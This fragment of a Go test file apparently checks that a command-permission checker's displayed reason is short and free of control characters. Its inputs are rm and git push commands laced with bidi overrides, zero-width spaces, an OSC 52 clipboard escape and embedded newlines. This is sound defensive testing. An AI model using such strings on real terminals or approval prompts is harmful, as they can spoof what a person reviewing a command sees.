	t.Logf("%d of %d are granted by %d rules", granted, len(asking), len(rules))
}

func TestDecide_AReasonIsFitToBeShown(t *testing.T) {
	for _, command := range []string{"rm \u202e\u200b'\u202etxt'", "rm " + strings.Repeat("x", 5000), "rm '\x1b]52;c;x'", "git push 'https://x/\u202e'", "rm 'a\nb'"} {
		for _, mode := range []Mode{AskAll, AskWrites, AskNone} {
			d := Decide(run(t, command), mode, Rule{Tool: "runCommand", Command: "rm", Verdict: Ask})
			if len(d.Reason) > 300 || strings.ContainsAny(d.Reason, "\n\x1b\u202e\u200b") {
				t.Errorf("%q: %q", command, d.Reason)
			}
		}
	}
}
